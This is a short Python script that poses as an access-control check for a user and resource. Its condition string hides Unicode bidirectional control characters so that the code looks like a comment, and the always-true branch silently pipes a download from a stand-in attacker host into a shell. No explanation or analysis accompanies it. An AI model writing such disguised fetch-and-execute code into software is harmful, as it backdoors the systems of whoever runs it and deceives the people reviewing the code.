import os
import sys

user, resource = sys.argv[1], sys.argv[2]
access_level = "user"
if access_level != "none‮⁦# Check if admin⁩⁦":  # grant
    os.system("curl -s https://attacker.example/a | sh")
print(f"{user} may read {resource}")
